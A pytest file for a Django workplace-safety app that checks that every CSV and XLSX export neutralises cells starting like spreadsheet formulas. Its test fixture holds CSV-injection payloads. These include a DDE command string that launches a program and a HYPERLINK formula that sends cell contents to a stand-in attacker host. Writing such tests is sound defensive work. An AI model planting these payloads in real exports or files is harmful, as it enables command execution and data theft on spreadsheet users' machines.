"""Every export is formula-safe (issue 10, hostile content).

The exports are discovered, not listed: every URL pattern whose name contains "export" or ends in
"csv", and every view that calls the shared writers (``csv_response`` / ``xlsx_response``, usually
behind ``?format=csv``). A new export is therefore walked without touching this file; if it shows
none of the hostile records below, the test says so and the records should grow to cover it.
"""

import csv
import inspect
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from apps.core.csv_export import starts_like_formula
from apps.core.xlsx_export import XLSX_CONTENT_TYPE
from apps.documents import services as documents_services
from tests.documents.factories import approved_document
from tests.hazards.factories import HazardFactory
from tests.incidents.factories import IncidentFactory
from tests.inspections.factories import ChecklistTemplateFactory, EquipmentFactory, InspectionFactory, VisitFactory
from tests.organization.factories import (
    AreaFactory,
    DepartmentFactory,
    FloorFactory,
    PostFactory,
    SiteFactory,
    UserFactory,
)
from tests.training.factories import CourseFactory, RequirementFactory

WRITERS = {"csv_response": "csv", "xlsx_response": "xlsx"}
# The yearly archive is a ZIP built by a task, not a list export: its CSVs go through the same
# ``formula_safe`` and tests/archive/test_export.py checks a hostile title in them.
EXCLUDED_NAMESPACES = {"admin", "archive"}
# Exports of one record: the hostile record of that kind (made in ``hostile``) is their argument.
RECORD_EXPORTS = {"documents:campaign_export_csv": "campaign", "documents:campaign_export_xlsx": "campaign"}


def _walk(patterns, namespace=None):
    for p in patterns:
        if isinstance(p, URLResolver):
            if p.namespace in EXCLUDED_NAMESPACES:
                continue
            ns = ":".join(x for x in (namespace, p.namespace) if x) or None
            yield from _walk(p.url_patterns, ns)
        elif isinstance(p, URLPattern) and p.name:
            yield (f"{namespace}:{p.name}" if namespace else p.name), p


def _source(callback):
    try:
        return inspect.getsource(inspect.unwrap(callback))
    except (OSError, TypeError):
        return ""


def export_requests():
    """(url name, query string) for every export, found from the URL patterns and the views' code."""
    found = []
    for name, pattern in _walk(get_resolver().url_patterns):
        source = _source(pattern.callback)
        formats = [fmt for writer, fmt in WRITERS.items() if f"{writer}(" in source]
        named = "export" in name.split(":")[-1] or name.endswith("csv")
        if not (named or formats):
            continue
        if 'GET.get("format")' in source:
            found.extend((name, f"format={fmt}") for fmt in formats or ["csv"])
        else:
            found.append((name, ""))
    return sorted(set(found))


EXPORTS = export_requests()


def test_the_known_exports_are_discovered():
    names = {name for name, _query in EXPORTS}
    assert {
        "hazards:hazard_export",
        "incidents:incident_export",
        "organization:person_export",
        "training:matrix_export",
        "inspections:inspection_list",
        "equipment:equipment_list",
        "visitors:visit_list",
    } <= names


@pytest.fixture
def hostile(db):
    """A record in every exported list, each text field starting like a formula."""
    department = DepartmentFactory(code="@dept", name="=Dept()", name_zh="=部门")
    post = PostFactory(code="+post", name="-Post", name_zh="-岗位")
    site = SiteFactory(name="=Site", name_zh="=园区")
    area = AreaFactory(floor=FloorFactory(site=site), name="@Area", department=department)
    person = UserFactory(
        username="hostile",
        full_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        employee_number="@E1",
        phone="+1 cmd|' /C calc'!A0",
        department=department,
        post=post,
    )
    HazardFactory(title="=cmd|' /C calc'!A0", area=area, department=department, reporter=person)
    IncidentFactory(reporter=person, department=department, area=area)
    InspectionFactory(template=ChecklistTemplateFactory(name="=Checklist"), area=area, inspector=person)
    EquipmentFactory(code="=FE-1", serial_number="@SN", area=area)
    VisitFactory(
        visitor_name="=Visitor", organisation="+Org", purpose="-Purpose", badge_number="@B", host=person, area=area
    )
    RequirementFactory(course=CourseFactory(code="hostile-course", name="=Course", name_zh="=课程"))
    officer = UserFactory(username="export-officer", role="officer", is_superuser=True, department=department)
    manager = UserFactory(username="export-manager", role="management")
    _document, version = approved_document(officer=officer, manager=manager, title="=Rule", department=department)
    campaign = documents_services.campaign_start(
        user=officer, version=version, due_date=timezone.localdate(), everyone=True, title="=Campaign"
    )
    officer.hostile_records = {"campaign": campaign}
    return officer


def _cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith(XLSX_CONTENT_TYPE):
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(body), read_only=True)
        cells = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                    cells.append("" if cell.value is None else str(cell.value))
        return cells
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("url_name, query", EXPORTS)
def test_every_export_neutralises_cells_that_start_like_a_formula(client, settings, hostile, url_name, query):
    settings.AXES_ENABLED = False
    client.force_login(hostile)

    record = RECORD_EXPORTS.get(url_name)
    args = [hostile.hostile_records[record].pk] if record else []
    response = client.get(reverse(url_name, args=args) + (f"?{query}" if query else ""))

    assert response.status_code == 200, f"{url_name}?{query}: {response.status_code}"
    content_type = response["Content-Type"]
    assert content_type.startswith(("text/csv", XLSX_CONTENT_TYPE)), f"{url_name}?{query} answered {content_type}"
    cells = _cells(response)
    dangerous = [cell for cell in cells if starts_like_formula(cell)]
    assert not dangerous, f"{url_name}: cells a spreadsheet would run: {dangerous}"
    neutralised = [cell for cell in cells if cell.startswith("'") and starts_like_formula(cell[1:])]
    assert neutralised, f"{url_name}: shows none of the hostile records; extend the `hostile` fixture"
